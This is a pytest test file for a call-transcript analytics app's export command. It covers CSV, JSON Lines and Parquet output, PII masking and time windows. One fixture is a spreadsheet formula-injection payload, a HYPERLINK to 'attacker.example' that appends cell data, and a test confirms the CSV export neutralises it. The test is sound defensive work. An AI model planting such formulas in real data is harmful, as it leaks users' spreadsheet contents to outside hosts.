"""`postcall export` and app.export: the current extraction of one tenant, in CSV, JSON Lines and Parquet."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from app.cli import app
from app.config import get_settings
from app.db.session import create_db_engine, make_session_factory, unit_of_work
from app.export import COLUMNS, ExportError, ExportFormat, ExportWindow, export_bytes, parse_instant
from app.llm.heuristic import HeuristicProvider
from app.llm.prompt import PromptTemplate
from app.models import Call, Claim
from app.pipeline.calls import find_tenant
from app.pipeline.run import process_call
from app.pipeline.store import store_transcript
from app.schemas.transcript import Role
from tests.support.analytics import World, build_world
from tests.support.transcripts import make_transcript


@pytest.fixture
def world(session_factory: sessionmaker[Session]) -> World:
    return build_world(session_factory)


def _export(factory: sessionmaker[Session], tenant: str, fmt: ExportFormat, window: ExportWindow | None = None,
            batch_size: int = 2000) -> bytes:
    with unit_of_work(factory) as session:
        tenant_row = find_tenant(session, tenant)
        assert tenant_row is not None
        return b"".join(export_bytes(session, tenant_row.id, fmt, window or ExportWindow(), batch_size))


def _current_claims(factory: sessionmaker[Session], tenant_calls: list[str]) -> int:
    with unit_of_work(factory) as session:
        return session.scalar(
            select(func.count()).select_from(Claim).join(Call, Call.id == Claim.call_id)
            .where(Call.id.in_(tenant_calls), Claim.run_id == Call.current_run_id)
        ) or 0


def test_jsonl_holds_the_tenants_current_extraction(session_factory: sessionmaker[Session], world: World) -> None:
    records = [json.loads(line) for line in _export(session_factory, "acme", ExportFormat.jsonl).splitlines()]
    acme = world.calls["acme"]
    # Every claim of every current run, plus one row for the call still queued.
    assert len(records) == _current_claims(session_factory, acme) + 1
    assert {r["call_id"] for r in records} == set(acme)
    assert {r["tenant"] for r in records} == {"acme"}
    queued = [r for r in records if r["claim_id"] is None]
    assert [r["call_id"] for r in queued] == [acme[3]] and queued[0]["call_state"] == "queued"
    claims = [r for r in records if r["claim_id"] is not None]
    assert all(r["evidence"] for r in claims)
    for ev in (ev for r in claims for ev in r["evidence"] if ev["status"] != "ungrounded"):
        assert ev["char_start"] is not None and ev["char_end"] > ev["char_start"]
    label = next(r for r in claims if r["owner_name"] == "the returns team")
    assert label["due"] == "by Friday" and label["due_date"] == "2026-03-13"
    first = [r for r in records if r["call_id"] == acme[0]]
    assert {d["action"] for r in first for d in r["review_decisions"]} == {"claim_approved", "claim_rejected"}
    assert all(r["call_decisions"] and r["call_decisions"][-1]["action"] == "call_approved" for r in first)
    assert all(r["review_status"] in {"approved", "rejected"} for r in first)


def test_csv_and_parquet_carry_the_same_rows(session_factory: sessionmaker[Session], world: World) -> None:
    lines = _export(session_factory, "acme", ExportFormat.jsonl).splitlines()
    reader = csv.reader(io.StringIO(_export(session_factory, "acme", ExportFormat.csv).decode()))
    header, *rows = list(reader)
    assert header == COLUMNS
    assert len(rows) == len(lines)
    for row, line in zip(rows, lines, strict=True):
        assert json.loads(row[COLUMNS.index("evidence")]) == json.loads(line)["evidence"]
        assert row[COLUMNS.index("call_id")] == json.loads(line)["call_id"]

    # Small batches: one Parquet row group per batch, streamed.
    table = pq.read_table(io.BytesIO(_export(session_factory, "acme", ExportFormat.parquet, batch_size=4)))
    assert table.num_rows == len(lines)
    assert pq.ParquetFile(io.BytesIO(_export(session_factory, "acme", ExportFormat.parquet, batch_size=4))) \
        .num_row_groups == -(-len(lines) // 4)
    assert table.column("call_id").to_pylist() == [json.loads(line)["call_id"] for line in lines]
    quotes = [[ev["quote"] for ev in evidence] for evidence in table.column("evidence").to_pylist()]
    assert quotes == [[ev["quote"] for ev in json.loads(line)["evidence"]] for line in lines]


def test_time_window_selects_calls_by_start(session_factory: sessionmaker[Session], world: World) -> None:
    window = ExportWindow(since=datetime(2026, 3, 10, tzinfo=UTC), until=datetime(2026, 3, 11, tzinfo=UTC))
    records = [json.loads(line) for line in _export(session_factory, "acme", ExportFormat.jsonl, window).splitlines()]
    assert {r["call_id"] for r in records} == {world.calls["acme"][1]}
    assert parse_instant("2026-03-10", "--since") == datetime(2026, 3, 10, tzinfo=UTC)
    with pytest.raises(ExportError):
        parse_instant("last tuesday", "--since")


@pytest.fixture
def sqlite_world(sqlite_url: str, monkeypatch: pytest.MonkeyPatch) -> World:
    engine = create_db_engine(sqlite_url)
    world = build_world(make_session_factory(engine))
    engine.dispose()
    monkeypatch.setenv("POSTCALL_DATABASE_URL", sqlite_url)
    get_settings.cache_clear()
    return world


def test_cli_export_writes_each_format(sqlite_world: World, tmp_path: Path) -> None:
    runner = CliRunner()
    for fmt in ("csv", "jsonl", "parquet"):
        target = tmp_path / f"acme.{fmt}"
        result = runner.invoke(app, ["export", "--tenant", "acme", "--format", fmt, "--output", str(target)])
        assert result.exit_code == 0, result.output
        assert target.stat().st_size > 0
    assert pq.read_table(tmp_path / "acme.parquet").num_rows == len((tmp_path / "acme.jsonl").read_text().splitlines())
    result = runner.invoke(app, ["export", "--tenant", "globex", "--format", "jsonl", "--since", "2026-03-11"])
    assert result.exit_code == 0
    assert {json.loads(line)["call_id"] for line in result.stdout.splitlines()} == {sqlite_world.calls["globex"][1]}
    result = runner.invoke(app, ["export", "--tenant", "nope"])
    assert result.exit_code == 2


CARD, MASKED_CARD = "4111 1111 1111 1111", "•••• •••• •••• 1111"
FORMULA_ID = '=HYPERLINK("http://attacker.example/?"&A1,"open")'


def _pii_call(factory: sessionmaker[Session]) -> None:
    # A call whose reason quotes a card number, handed over with an external id a spreadsheet would run.
    lines = [
        (Role.agent, "Thank you for calling Northwind Bank, this is Dana. How can I help you today?"),
        (Role.customer, f"Hi, my card {CARD} was charged twice and I need a refund."),
        (Role.agent, "I see the double charge. I will refund it within 5 business days."),
    ]
    with unit_of_work(factory) as session:
        call_id = store_transcript(session, make_transcript(lines, external_id=None), tenant="pii",
                                   external_id=FORMULA_ID).call_id
    process_call(factory, call_id, HeuristicProvider(), PromptTemplate.load(get_settings().prompts_dir,
                                                                            get_settings().prompt_version))


def test_texts_are_masked_unless_asked_unmasked(session_factory: sessionmaker[Session]) -> None:
    _pii_call(session_factory)
    masked = _export(session_factory, "pii", ExportFormat.jsonl).decode()
    assert CARD not in masked and MASKED_CARD in masked
    records = [json.loads(line) for line in masked.splitlines()]
    assert any(MASKED_CARD in (record["text"] or "") for record in records)
    assert any(MASKED_CARD in ev["quote"] for record in records for ev in record["evidence"])
    with unit_of_work(session_factory) as session:
        tenant = find_tenant(session, "pii")
        assert tenant is not None
        unmasked = b"".join(export_bytes(session, tenant.id, ExportFormat.jsonl, masked=False)).decode()
    assert CARD in unmasked


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(session_factory: sessionmaker[Session]) -> None:
    _pii_call(session_factory)
    header, *rows = list(csv.reader(io.StringIO(_export(session_factory, "pii", ExportFormat.csv).decode())))
    assert rows and all(row[header.index("external_id")] == "'" + FORMULA_ID for row in rows)
    jsonl = [json.loads(line) for line in _export(session_factory, "pii", ExportFormat.jsonl).splitlines()]
    assert {record["external_id"] for record in jsonl} == {FORMULA_ID}  # only CSV needs it
    # A signed number evaluates to itself: an E.164-style id stays as it is, so joins on it still work.
    with unit_of_work(session_factory) as session:
        store_transcript(session, make_transcript(external_id=None), tenant="phones", external_id="+15551234567")
    header, *rows = list(csv.reader(io.StringIO(_export(session_factory, "phones", ExportFormat.csv).decode())))
    assert [row[header.index("external_id")] for row in rows] == ["+15551234567"]


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00"])
def test_a_moment_outside_utcs_range_is_refused(value: str) -> None:
    with pytest.raises(ExportError, match="out of the representable range"):
        parse_instant(value, "since")
